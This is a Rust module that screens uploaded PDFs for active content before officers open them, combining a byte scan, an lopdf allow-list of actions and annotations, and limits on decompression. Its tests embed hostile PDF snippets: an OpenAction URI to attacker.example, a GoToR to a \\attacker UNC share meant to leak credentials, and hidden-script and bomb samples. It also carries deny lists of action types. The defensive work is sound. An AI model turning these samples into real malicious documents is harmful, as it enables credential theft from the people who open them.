//! Deciding whether an uploaded PDF is passive enough to store and show to officers.
//!
//! Officers open residents' PDFs in desktop readers, so a PDF that runs a script, opens a URL,
//! fetches a `\\server\share` path (leaking the officer's Windows credentials), submits a form,
//! launches a program or carries files is refused. A cheap byte scan comes first; then the whole
//! document is parsed with `lopdf` (cross-reference streams and compressed object streams
//! included) and every object must fit an allow-list of what scanned documents and the signed
//! PDFs of the national SIAK system need. Anything else, and anything that cannot be inspected
//! (unparseable, encrypted, too large to inspect cheaply), is refused.

use std::cell::Cell;
use std::collections::HashSet;
use std::panic::{AssertUnwindSafe, catch_unwind};

use lopdf::xref::XrefEntry;
use lopdf::{Dictionary, Document, LoadOptions, Object, ObjectId, ObjectStream, Stream};

use super::UploadError;

/// Most objects a document may hold: a scanned letter has tens, a long signed report thousands.
const MAX_OBJECTS: usize = 100_000;
/// Deepest nesting of arrays and dictionaries inspected (lopdf's parser stops at 100).
const MAX_DEPTH: usize = 64;
/// Bytes that all object and cross-reference streams together may decompress to while loading
/// (lopdf keeps an entry of up to 12 bytes for every 3 bytes of cross-reference stream).
const DECODE_BUDGET: usize = 16 * 1024 * 1024;
/// Bytes one such stream may decompress to: real ones hold well under 1 MiB (100 000 objects
/// take 700 KiB of cross-reference stream).
const MAX_DECODED_STREAM: usize = 2 * 1024 * 1024;

/// Action types a reader knows: a dictionary whose `/S` is one of them is an action wherever
/// it sits. Only `GoTo` (a jump inside the document) is allowed.
const ACTION_TYPES: [&[u8]; 21] = [
    b"GoTo",
    b"GoToR",
    b"GoToE",
    b"GoToDp",
    b"GoTo3DView",
    b"Launch",
    b"Thread",
    b"URI",
    b"Sound",
    b"Movie",
    b"Hide",
    b"Named",
    b"SubmitForm",
    b"ResetForm",
    b"ImportData",
    b"SetOCGState",
    b"Rendition",
    b"Trans",
    b"JavaScript",
    b"ECMAScript",
    b"RichMediaExecute",
];

/// Keys refused in any dictionary: additional actions (run on open, close, focus, …), scripts,
/// embedded files, XML forms, launch parameters.
const FORBIDDEN_KEYS: [&[u8]; 8] =
    [b"AA", b"JS", b"JavaScript", b"EmbeddedFile", b"EmbeddedFiles", b"EF", b"XFA", b"Launch"];

/// Annotations a scanned or signed document may carry: links, signature widgets, markup.
const ANNOTATIONS: [&[u8]; 14] = [
    b"Link",
    b"Widget",
    b"Text",
    b"Highlight",
    b"Underline",
    b"StrikeOut",
    b"Squiggly",
    b"FreeText",
    b"Square",
    b"Circle",
    b"Line",
    b"Ink",
    b"Stamp",
    b"Popup",
];

/// `/Subtype` values refused wherever they appear: multimedia and attachment annotations (in
/// case one is not marked `/Type /Annot` nor listed in a page's `/Annots`), PostScript XObjects.
const FORBIDDEN_SUBTYPES: [&[u8]; 7] = [b"FileAttachment", b"Screen", b"Movie", b"Sound", b"3D", b"RichMedia", b"PS"];

/// Form field types (`/FT`); their actions are checked like any other.
const FIELD_TYPES: [&[u8]; 4] = [b"Sig", b"Tx", b"Btn", b"Ch"];

/// Stream filters readers decode for images and page content, with their abbreviations.
const FILTERS: [&[u8]; 16] = [
    b"FlateDecode",
    b"Fl",
    b"DCTDecode",
    b"DCT",
    b"JPXDecode",
    b"CCITTFaxDecode",
    b"CCF",
    b"JBIG2Decode",
    b"LZWDecode",
    b"LZW",
    b"ASCII85Decode",
    b"A85",
    b"ASCIIHexDecode",
    b"AHx",
    b"RunLengthDecode",
    b"RL",
];

/// Name prefixes the byte scan refuses (after `#xx` decoding): active content, and encryption
/// (an encrypted document cannot be inspected).
const ACTIVE_PREFIXES: [&[u8]; 7] =
    [b"JavaScript", b"JS", b"Launch", b"EmbeddedFile", b"RichMedia", b"XFA", b"Encrypt"];

/// Why a PDF was refused, for the log and the tests (the uploader only learns that it was).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Refused(pub(super) &'static str);

type Verdict = Result<(), Refused>;

/// Accepts a PDF only if it is complete, parses, is not encrypted and every object is on the
/// allow-list. Never panics: a panic inside the parser refuses the file.
pub(super) fn check(bytes: &[u8]) -> Result<(), UploadError> {
    let verdict = catch_unwind(AssertUnwindSafe(|| inspect(bytes))).unwrap_or(Err(Refused("the parser panicked")));
    verdict.map_err(|Refused(reason)| {
        tracing::info!(reason, "PDF upload refused");
        UploadError::PdfNotAllowed
    })
}

fn inspect(bytes: &[u8]) -> Verdict {
    let decoded_streams = scan(bytes)?;
    let stream_limit = (DECODE_BUDGET / decoded_streams.max(1)).min(MAX_DECODED_STREAM);
    structure(bytes, stream_limit)
}

// ---------------------------------------------------------------------------------------------
// The byte scan

/// The cheap first look: a header, an end marker, and no active-content name in the bytes
/// outside stream data (image and compressed data hold every byte sequence by chance; what
/// streams hold is for the parser to inspect). Returns how many streams loading may decompress, which sets each one's
/// share of [`DECODE_BUDGET`]: object streams, cross-reference streams (which lopdf decodes at
/// `startxref`, `/XRefStm` and every `/Prev` offset even when they do not say `/Type /XRef`).
fn scan(bytes: &[u8]) -> Result<usize, Refused> {
    let tail = &bytes[bytes.len().saturating_sub(2048)..];
    if !bytes.starts_with(b"%PDF-") || !tail.windows(5).any(|w| w == b"%%EOF") {
        return Err(Refused("no PDF header or end marker"));
    }
    let mut decoded_streams = 1;
    for segment in outside_streams(bytes) {
        let mut names = Names::new(segment);
        while let Some(name) = names.next() {
            if ACTIVE_PREFIXES.iter().any(|active| name.starts_with(active)) {
                return Err(Refused("active-content name in the raw bytes"));
            }
            // An outline item's `/Prev` is a reference; a cross-reference section's is an offset.
            let offset = name == b"Prev" && !is_reference(&segment[names.at..]);
            decoded_streams += usize::from(name == b"ObjStm" || name == b"XRef" || name == b"XRefStm" || offset);
        }
    }
    Ok(decoded_streams)
}

/// The parts of a file outside stream data: each `stream` keyword at the end of a line
/// starts data that runs to the next `endstream`. (A fake keyword can only hide bytes from
/// this scan, not from the parser, which inspects every object whatever this finds.)
fn outside_streams(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut rest = bytes;
    std::iter::from_fn(move || {
        if rest.is_empty() {
            return None;
        }
        let mut from = 0;
        let start = loop {
            let Some(found) = find(&rest[from..], b"stream").map(|i| i + from) else { break None };
            let keyword = found < 3 || &rest[found - 3..found] != b"end";
            let at_line_end = matches!(rest.get(found + 6), Some(b'\r' | b'\n'));
            if keyword && at_line_end {
                break Some(found + 6);
            }
            from = found + 6;
        };
        let Some(start) = start else {
            let all = rest;
            rest = &[];
            return Some(all);
        };
        let before = &rest[..start];
        rest = match find(&rest[start..], b"endstream") {
            Some(end) => &rest[start + end + 9..],
            None => &[],
        };
        Some(before)
    })
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// Whether `bytes` start with an indirect reference (`12 0 R`), white space before it allowed.
fn is_reference(bytes: &[u8]) -> bool {
    let mut tokens = bytes.split(u8::is_ascii_whitespace).filter(|token| !token.is_empty());
    let number = |token: Option<&[u8]>| token.is_some_and(|t| t.iter().all(u8::is_ascii_digit));
    number(tokens.next()) && number(tokens.next()) && tokens.next().is_some_and(|t| t.starts_with(b"R"))
}

/// The PDF names (`/Name`) in raw bytes, `#xx` escapes decoded as readers decode them
/// (`/J#61vaScript` is `/JavaScript`), each cut at [`Names::LONGEST`] bytes.
struct Names<'a> {
    bytes: &'a [u8],
    at: usize,
}

impl<'a> Names<'a> {
    const LONGEST: usize = 12;

    fn new(bytes: &'a [u8]) -> Self {
        Self { bytes, at: 0 }
    }

    /// The byte the escape `#xx` at `at` stands for.
    fn escaped(&self, at: usize) -> Option<u8> {
        let hex = |b: &u8| (*b as char).to_digit(16);
        if self.bytes.get(at) != Some(&b'#') {
            return None;
        }
        Some((hex(self.bytes.get(at + 1)?)? * 16 + hex(self.bytes.get(at + 2)?)?) as u8)
    }
}

impl Iterator for Names<'_> {
    type Item = Vec<u8>;

    fn next(&mut self) -> Option<Vec<u8>> {
        let is_delimiter = |b: u8| b"\0\t\n\x0c\r ()<>[]{}/%".contains(&b);
        let start = self.at + self.bytes.get(self.at..)?.iter().position(|b| *b == b'/')? + 1;
        self.at = start;
        let mut name = Vec::with_capacity(Self::LONGEST);
        while self.at < self.bytes.len() && !is_delimiter(self.bytes[self.at]) && name.len() < Self::LONGEST {
            match self.escaped(self.at) {
                Some(byte) => {
                    name.push(byte);
                    self.at += 3;
                }
                None => {
                    name.push(self.bytes[self.at]);
                    self.at += 1;
                }
            }
        }
        Some(name)
    }
}

// ---------------------------------------------------------------------------------------------
// Loading

thread_local! {
    /// Objects the current load has produced so far (see [`count_object`]).
    static LOADED: Cell<usize> = const { Cell::new(0) };
}

/// lopdf's per-object load filter (a plain function, hence the thread-local counter): keeps the
/// first [`MAX_OBJECTS`] objects and drops the rest, so that a small file of tiny compressed
/// objects cannot fill memory before the count is checked. Loading runs on the calling thread
/// (lopdf is built without rayon).
fn count_object(id: ObjectId, object: &mut Object) -> Option<(ObjectId, Object)> {
    let loaded = LOADED.get() + 1;
    LOADED.set(loaded);
    (loaded <= MAX_OBJECTS).then(|| (id, object.clone()))
}

/// Parses the whole document, cross-reference and object streams included, decompressing at
/// most `stream_limit` bytes per stream. `rebuild` ignores the cross-reference data and finds
/// the objects by scanning the file, as readers do with a damaged file.
fn load(bytes: &[u8], stream_limit: usize, rebuild: bool) -> Result<Document, Refused> {
    LOADED.set(0);
    let options = LoadOptions {
        filter: Some(count_object),
        max_decompressed_size: Some(stream_limit),
        force_reconstruct: rebuild,
        ..LoadOptions::default()
    };
    let document = Document::load_mem_with_options(bytes, options).map_err(|error| match error {
        lopdf::Error::Decompress(lopdf::DecompressError::MemoryLimitExceeded { .. }) => {
            Refused("a stream over the bound")
        }
        _ => Refused("does not parse"),
    })?;
    if LOADED.get() > MAX_OBJECTS || document.reference_table.entries.len() > MAX_OBJECTS {
        return Err(Refused("too many objects"));
    }
    Ok(document)
}

/// The parser's half of the check: load, then inspect every object. The file is loaded a second
/// time ignoring its cross-reference data, as a reader does when it finds the data damaged, so
/// objects the table leaves out are inspected too.
fn structure(bytes: &[u8], stream_limit: usize) -> Verdict {
    let document = load(bytes, stream_limit, false)?;
    // First: decryption drops the encryption dictionary, which `all_loaded` would miss.
    encrypted(&document)?;
    let inspector = Inspector { document: &document, stream_limit };
    match document.trailer.get(b"Root").map(|root| inspector.resolve(root)) {
        Ok(Object::Dictionary(_)) => inspector.document()?,
        _ => return Err(Refused("no catalog")),
    }
    let rebuilt = load(bytes, stream_limit, true).ok();
    if let Some(rebuilt) = &rebuilt {
        Inspector { document: rebuilt, stream_limit }.document()?;
    }
    all_loaded(bytes, &document, rebuilt.as_ref())
}

/// An encrypted document cannot be inspected (lopdf decrypts one whose user password is empty,
/// and says so).
fn encrypted(document: &Document) -> Verdict {
    if document.encryption_state.is_some() || document.trailer.has(b"Encrypt") {
        return Err(Refused("encrypted"));
    }
    Ok(())
}

/// Lenient loading skips an object it cannot parse, which a reader might still parse: every
/// object the cross-reference data lists, and every `N G obj` in the file unless the data marks
/// that number free, must have loaded, with the table or without it. (An offset of 0, which
/// some writers put in unused entries, points at the header and is not an object.)
fn all_loaded(bytes: &[u8], document: &Document, rebuilt: Option<&Document>) -> Verdict {
    let loaded: HashSet<u32> = [Some(document), rebuilt]
        .into_iter()
        .flatten()
        .flat_map(|d| d.objects.keys().map(|(number, _)| *number))
        .collect();
    let entries = &document.reference_table.entries;
    let listed = entries.iter().filter_map(|(number, entry)| match entry {
        XrefEntry::Normal { offset, .. } if *offset != 0 => Some(*number),
        XrefEntry::Compressed { .. } => Some(*number),
        _ => None,
    });
    let freed = |number: &u32| matches!(entries.get(number), Some(XrefEntry::Free | XrefEntry::UnusableFree));
    let in_file = object_headers(bytes).into_iter().filter(|number| !freed(number));
    if listed.chain(in_file).all(|number| loaded.contains(&number)) {
        Ok(())
    } else {
        Err(Refused("an object that does not parse"))
    }
}

/// The object numbers of whatever looks like an `N G obj` header in raw bytes. Loosely read (a
/// letter may touch either end, as lenient readers allow), so that every object a reader might
/// find is counted.
fn object_headers(bytes: &[u8]) -> Vec<u32> {
    let space = |b: &u8| b.is_ascii_whitespace();
    let header = |at: usize| {
        let (_, rest) = trailing(&bytes[..at], space)?;
        let (_generation, rest) = trailing(rest, u8::is_ascii_digit)?;
        let (_, rest) = trailing(rest, space)?;
        let (number, _) = trailing(rest, u8::is_ascii_digit)?;
        std::str::from_utf8(number).ok()?.parse().ok()
    };
    (0..bytes.len()).filter(|at| bytes[*at..].starts_with(b"obj")).filter_map(header).collect()
}

/// Splits off the run of bytes at the end of `bytes` that `matches`, if there is one: (the run,
/// what is before it).
fn trailing(bytes: &[u8], matches: impl Fn(&u8) -> bool) -> Option<(&[u8], &[u8])> {
    let start = bytes.iter().rposition(|b| !matches(b)).map_or(0, |at| at + 1);
    (start < bytes.len()).then(|| (&bytes[start..], &bytes[..start]))
}

// ---------------------------------------------------------------------------------------------
// The allow-list

struct Inspector<'a> {
    document: &'a Document,
    stream_limit: usize,
}

impl Inspector<'_> {
    /// Every object, the trailer included.
    fn document(&self) -> Verdict {
        let document = self.document;
        encrypted(document)?;
        if document.objects.len() > MAX_OBJECTS {
            return Err(Refused("too many objects"));
        }
        if let Ok(Object::Dictionary(catalog)) = document.trailer.get(b"Root").map(|root| self.resolve(root)) {
            self.catalog(catalog)?;
        }
        self.dictionary(&document.trailer, 0)?;
        document.objects.values().try_for_each(|object| self.object(object, 0))
    }

    /// Follows references (up to lopdf's limit); a dangling one is null, as readers take it.
    fn resolve<'o>(&'o self, object: &'o Object) -> &'o Object {
        self.document.dereference(object).map_or(&Object::Null, |(_, object)| object)
    }

    fn object(&self, object: &Object, depth: usize) -> Verdict {
        if depth > MAX_DEPTH {
            return Err(Refused("nested too deeply"));
        }
        match object {
            Object::Array(items) => items.iter().try_for_each(|item| self.object(item, depth + 1)),
            Object::Dictionary(dictionary) => self.dictionary(dictionary, depth),
            Object::Stream(stream) => self.stream(stream, depth),
            _ => Ok(()),
        }
    }

    fn dictionary(&self, dictionary: &Dictionary, depth: usize) -> Verdict {
        self.rules(dictionary)?;
        dictionary.iter().try_for_each(|(_, value)| self.object(value, depth + 1))
    }

    /// A stream's filters and dictionary; an object stream's members are parsed again and
    /// inspected, stale copies that loading set aside included.
    fn stream(&self, stream: &Stream, depth: usize) -> Verdict {
        filters(&stream.dict)?;
        if [b"F".as_slice(), b"FFilter", b"FDecodeParms"].iter().any(|key| stream.dict.has(key)) {
            return Err(Refused("stream data in an external file"));
        }
        self.dictionary(&stream.dict, depth)?;
        if !stream.dict.has_type(b"ObjStm") {
            return Ok(());
        }
        let members = ObjectStream::new_with_limit(stream, Some(self.stream_limit))
            .map_err(|_| Refused("an object stream that does not parse"))?;
        members.objects.values().try_for_each(|object| self.object(object, 0))
    }

    /// The rules for one dictionary, by its keys and by what it is.
    fn rules(&self, dictionary: &Dictionary) -> Verdict {
        for (key, _) in dictionary.iter() {
            if FORBIDDEN_KEYS.contains(&key.as_slice()) || key.starts_with(b"RichMedia") {
                return Err(Refused("a forbidden key"));
            }
        }
        let kind = name(dictionary, b"Type")?;
        if name(dictionary, b"S")?.is_some_and(|s| ACTION_TYPES.contains(&s)) || kind == Some(b"Action".as_slice()) {
            action(dictionary)?;
        }
        if name(dictionary, b"Subtype")?.is_some_and(|subtype| FORBIDDEN_SUBTYPES.contains(&subtype)) {
            return Err(Refused("a multimedia, attachment or PostScript object"));
        }
        if name(dictionary, b"FT")?.is_some_and(|field| !FIELD_TYPES.contains(&field)) {
            return Err(Refused("an unknown form field type"));
        }
        match kind {
            Some(b"Annot") => annotation(dictionary)?,
            Some(b"Catalog") => self.catalog(dictionary)?,
            Some(b"EmbeddedFile") => return Err(Refused("an embedded file")),
            _ => {}
        }
        self.actions(dictionary)?;
        self.annotations(dictionary)
    }

    /// The values of the keys that hold actions, followed through references.
    fn actions(&self, dictionary: &Dictionary) -> Verdict {
        for key in [b"A".as_slice(), b"PA", b"Next", b"OpenAction"] {
            let Ok(value) = dictionary.get(key) else { continue };
            match self.resolve(value) {
                Object::Dictionary(target) => action(target)?,
                // `/OpenAction` may be a destination; `/Next` may list actions; `/A` of a
                // measure dictionary lists number formats.
                Object::Array(items) if key != b"PA".as_slice() => {
                    for item in items.iter().map(|item| self.resolve(item)) {
                        if let Object::Dictionary(target) = item
                            && (key == b"Next".as_slice() || target.has(b"S") || target.has_type(b"Action"))
                        {
                            action(target)?;
                        }
                    }
                }
                // Nothing a reader would run.
                _ => {}
            }
        }
        Ok(())
    }

    /// Entries of `/Annots`, which are annotations whether or not they say `/Type /Annot`.
    fn annotations(&self, dictionary: &Dictionary) -> Verdict {
        let Ok(annots) = dictionary.get(b"Annots") else { return Ok(()) };
        let Object::Array(items) = self.resolve(annots) else { return Ok(()) };
        for item in items {
            if let Object::Dictionary(annot) = self.resolve(item) {
                annotation(annot)?;
            }
        }
        Ok(())
    }

    /// The catalog's name dictionary may hold named destinations only (no scripts, embedded
    /// files, page templates, web captures …).
    fn catalog(&self, catalog: &Dictionary) -> Verdict {
        let Ok(names) = catalog.get(b"Names") else { return Ok(()) };
        match self.resolve(names) {
            Object::Dictionary(names) if names.iter().all(|(key, _)| key == b"Dests") => Ok(()),
            Object::Null => Ok(()),
            _ => Err(Refused("a name tree other than destinations")),
        }
    }
}

/// A dictionary's `/key` as a name, if it is one. Writers put these names in directly; one
/// behind a reference could hide what the dictionary is from lopdf but not from a reader that
/// follows it (an object stream lopdf does not unpack, an action it does not recognise), so it
/// is refused.
fn name<'d>(dictionary: &'d Dictionary, key: &[u8]) -> Result<Option<&'d [u8]>, Refused> {
    match dictionary.get(key) {
        Ok(Object::Name(name)) => Ok(Some(name)),
        Ok(Object::Reference(_)) => Err(Refused("a type behind a reference")),
        _ => Ok(None),
    }
}

/// Only jumps inside the document.
fn action(dictionary: &Dictionary) -> Verdict {
    match name(dictionary, b"S")? {
        Some(b"GoTo") => Ok(()),
        _ => Err(Refused("an action other than GoTo")),
    }
}

fn annotation(dictionary: &Dictionary) -> Verdict {
    match name(dictionary, b"Subtype")? {
        Some(subtype) if ANNOTATIONS.contains(&subtype) => Ok(()),
        _ => Err(Refused("an annotation type not allowed")),
    }
}

/// A stream's `/Filter`: a name or an array of names, each a known image or content codec.
fn filters(dictionary: &Dictionary) -> Verdict {
    let allowed = |filter: &Object| matches!(filter, Object::Name(name) if FILTERS.contains(&name.as_slice()));
    match dictionary.get(b"Filter") {
        Err(_) => Ok(()),
        Ok(Object::Array(filters)) if filters.iter().all(allowed) => Ok(()),
        Ok(filter) if allowed(filter) => Ok(()),
        Ok(_) => Err(Refused("a stream filter not allowed")),
    }
}

#[cfg(test)]
#[path = "pdf/samples.rs"]
pub(crate) mod samples;

#[cfg(test)]
mod tests {
    use super::samples;
    use super::*;

    /// Refused by the parser's half alone, not just by the byte scan.
    fn refused_by_structure(bytes: &[u8]) -> Option<&'static str> {
        structure(bytes, MAX_DECODED_STREAM).err().map(|Refused(reason)| reason)
    }

    fn assert_refused(sample: anyhow::Result<Vec<u8>>, why: &str) -> anyhow::Result<()> {
        let bytes = sample?;
        assert_eq!(check(&bytes), Err(UploadError::PdfNotAllowed), "{why}");
        assert!(refused_by_structure(&bytes).is_some(), "{why}: the allow-list must refuse it on its own");
        Ok(())
    }

    fn assert_accepted(sample: anyhow::Result<Vec<u8>>, what: &str) -> anyhow::Result<()> {
        let bytes = sample?;
        assert_eq!(inspect(&bytes), Ok(()), "{what}");
        assert_eq!(check(&bytes), Ok(()), "{what}");
        Ok(())
    }

    #[test]
    fn open_action_uri_is_refused() -> anyhow::Result<()> {
        assert_refused(samples::open_action_uri(), "/OpenAction /URI")
    }

    #[test]
    fn go_to_remote_unc_path_is_refused() -> anyhow::Result<()> {
        let bytes = samples::go_to_remote_unc()?;
        assert!(bytes.windows(9).any(|w| w == b"\\\\attacke"), "the UNC path is in the file");
        assert_refused(Ok(bytes), "/GoToR to a UNC path")
    }

    #[test]
    fn submit_form_is_refused() -> anyhow::Result<()> {
        assert_refused(samples::submit_form(), "/SubmitForm")
    }

    #[test]
    fn import_data_is_refused() -> anyhow::Result<()> {
        assert_refused(samples::import_data(), "/ImportData")
    }

    #[test]
    fn launch_with_windows_parameters_is_refused() -> anyhow::Result<()> {
        assert_refused(samples::launch_windows(), "/Launch /Win")
    }

    #[test]
    fn additional_actions_on_a_page_are_refused() -> anyhow::Result<()> {
        assert_refused(samples::page_additional_actions(), "/AA on a page")
    }

    #[test]
    fn javascript_inside_a_compressed_object_stream_is_refused() -> anyhow::Result<()> {
        let bytes = samples::javascript_in_object_stream()?;
        assert!(!bytes.windows(10).any(|w| w == b"JavaScript"), "the script must be hidden from the byte scan");
        assert!(bytes.windows(6).any(|w| w == b"ObjStm"), "the file has an object stream");
        assert_eq!(scan(&bytes).map(|_| ()), Ok(()), "the byte scan alone misses it");
        assert_refused(Ok(bytes), "JavaScript in an object stream")
    }

    #[test]
    fn embedded_files_name_tree_is_refused() -> anyhow::Result<()> {
        assert_refused(samples::embedded_files(), "/EmbeddedFiles")
    }

    #[test]
    fn file_attachment_annotation_is_refused() -> anyhow::Result<()> {
        assert_refused(samples::file_attachment(), "/FileAttachment")
    }

    #[test]
    fn xfa_form_is_refused() -> anyhow::Result<()> {
        assert_refused(samples::xfa_form(), "/XFA")
    }

    #[test]
    fn encrypted_document_is_refused() -> anyhow::Result<()> {
        let bytes = samples::encrypted()?;
        assert_eq!(refused_by_structure(&bytes), Some("encrypted"));
        assert_refused(Ok(bytes), "encrypted")
    }

    #[test]
    fn unknown_stream_filter_is_refused() -> anyhow::Result<()> {
        assert_refused(samples::unknown_filter(), "/Crypt filter")
    }

    #[test]
    fn every_hostile_sample_is_refused() -> anyhow::Result<()> {
        for (name, bytes) in samples::hostile()? {
            assert_refused(Ok(bytes), name)?;
        }
        Ok(())
    }

    #[test]
    fn every_accepted_sample_is_accepted() -> anyhow::Result<()> {
        for (name, bytes) in samples::accepted()? {
            assert_accepted(Ok(bytes), name)?;
        }
        Ok(())
    }

    #[test]
    fn scanned_page_with_a_jpeg_is_accepted() -> anyhow::Result<()> {
        assert_accepted(samples::scanned_page(), "scanned page")
    }

    #[test]
    fn scanned_page_saved_with_object_and_xref_streams_is_accepted() -> anyhow::Result<()> {
        let bytes = samples::scanned_page_compressed()?;
        assert!(bytes.windows(6).any(|w| w == b"ObjStm"), "the file has an object stream");
        assert_accepted(Ok(bytes), "scanned page with object streams")
    }

    #[test]
    fn signature_field_with_its_widget_is_accepted() -> anyhow::Result<()> {
        assert_accepted(samples::signed_form(), "signature field")
    }

    #[test]
    fn internal_links_are_accepted() -> anyhow::Result<()> {
        assert_accepted(samples::internal_links(), "GoTo link and /Dest link")
    }

    #[test]
    fn minimal_document_without_xref_table_is_accepted() -> anyhow::Result<()> {
        assert_accepted(Ok(samples::minimal()), "the e2e helper's PDF")
    }

    const CATALOG: &str = "<< /Type /Catalog /Pages 2 0 R >>";
    const PAGES: &str = "<< /Type /Pages /Kids [] /Count 0 >>";

    #[test]
    fn hand_written_file_with_an_xref_table_is_accepted() {
        assert_eq!(inspect(&samples::with_xref(&[CATALOG, PAGES], &[])), Ok(()));
    }

    #[test]
    fn an_object_that_does_not_parse_is_refused() {
        // Listed in the table but broken: lenient loading would drop it without a word.
        let broken = "<< /OpenAction << /S /URI /URI (https://attacker.example) >> /X (unterminated";
        let bytes = samples::with_xref(&[CATALOG, PAGES, broken], &[]);
        assert_eq!(refused_by_structure(&bytes), Some("an object that does not parse"));
    }

    #[test]
    fn an_object_that_does_not_parse_is_refused_when_the_table_is_rebuilt() {
        let broken = "<< /OpenAction << /S /URI /URI (https://attacker.example) >> /X (unterminated";
        let mut bytes = samples::with_xref(&[CATALOG, PAGES, broken], &[]);
        // A damaged table: readers and lopdf rebuild it by scanning, and lopdf leaves out
        // what it cannot parse.
        let at = bytes.windows(9).rposition(|w| w == b"startxref").unwrap_or(0) + 10;
        bytes[at] = b'9';
        assert_eq!(refused_by_structure(&bytes), Some("an object that does not parse"));
    }

    #[test]
    fn object_headers_are_found() {
        let bytes = b"%PDF-1.4\n1 0 obj<<>>endobj 12 3 obj\n5\nendobj x7 0 obj 8 0 objx (9 0 obj) 10 obj 11 0 R";
        assert_eq!(object_headers(bytes), [1, 12, 7, 8, 9]);
    }

    #[test]
    fn objects_left_out_of_the_xref_table_are_inspected() {
        let hidden = "<< /S /URI /URI (https://attacker.example) >>";
        let bytes = samples::with_xref(&[CATALOG, PAGES], &[hidden]);
        assert_eq!(refused_by_structure(&bytes), Some("an action other than GoTo"));
    }

    #[test]
    fn actions_behind_references_are_followed() {
        let catalog = "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>";
        let action = "<< /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>";
        let bytes = samples::with_xref(&[catalog, PAGES, action], &[]);
        assert_eq!(refused_by_structure(&bytes), Some("an action other than GoTo"));
    }

    #[test]
    fn an_annotation_not_marked_as_one_is_still_checked() {
        let page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>";
        let pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
        let unknown = "<< /Subtype /Polyline2 /Rect [0 0 10 10] >>";
        let bytes = samples::with_xref(&[CATALOG, pages, page, unknown], &[]);
        assert_eq!(refused_by_structure(&bytes), Some("an annotation type not allowed"));
    }

    #[test]
    fn a_type_behind_a_reference_is_refused() {
        let stream = "<< /Type 4 0 R /N 1 /First 4 /Length 0 >>\nstream\n\nendstream";
        let bytes = samples::with_xref(&[CATALOG, PAGES, stream, "/ObjStm"], &[]);
        assert_eq!(refused_by_structure(&bytes), Some("a type behind a reference"));
    }

    #[test]
    fn deep_nesting_is_refused() {
        let deep = format!("<< /Type /Catalog /Pages 2 0 R /X {}0{} >>", "[".repeat(80), "]".repeat(80));
        let bytes = samples::with_xref(&[&deep, PAGES], &[]);
        assert_eq!(refused_by_structure(&bytes), Some("nested too deeply"));
    }

    #[test]
    fn object_stream_bombs_are_cut_off_at_the_budget() -> anyhow::Result<()> {
        // 64 streams of 2 MiB each: 128 MiB if all were inflated; each gets 1/65 of 16 MiB.
        let bytes = samples::object_stream_bomb(64, MAX_DECODED_STREAM)?;
        assert!(bytes.len() < 1024 * 1024, "a small file: {} bytes", bytes.len());
        assert_eq!(scan(&bytes), Ok(65));
        assert_eq!(inspect(&bytes), Err(Refused("a stream over the bound")));
        // One stream just over the per-stream bound is refused too.
        let bytes = samples::object_stream_bomb(1, MAX_DECODED_STREAM + 1)?;
        assert_eq!(inspect(&bytes), Err(Refused("a stream over the bound")));
        Ok(())
    }

    #[test]
    fn too_many_objects_are_refused() -> anyhow::Result<()> {
        let bytes = samples::many_objects(MAX_OBJECTS)?;
        assert_eq!(refused_by_structure(&bytes), Some("too many objects"));
        Ok(())
    }

    #[test]
    fn names_are_decoded_and_counted() {
        let names: Vec<Vec<u8>> = Names::new(b"/J#61va /ObjStm/XRef /A#").collect();
        assert_eq!(names, [b"Java".to_vec(), b"ObjStm".to_vec(), b"XRef".to_vec(), b"A#".to_vec()]);
        assert_eq!(scan(b"%PDF-1.7 /Type /ObjStm /Type /XRef /Prev 1234 /XRefStm 99 %%EOF"), Ok(5));
        assert_eq!(scan(b"%PDF-1.7 /Prev 12 0 R/Next 13 0 R /Prev\n7 0 R>> %%EOF"), Ok(1));
        assert_eq!(scan(b"%PDF-1.7 /J#5 /F# /Jump /Title (JavaScript) %%EOF"), Ok(1));
        assert!(scan(b"%PDF-1.7 /Encrypt 5 0 R %%EOF").is_err());
    }
}
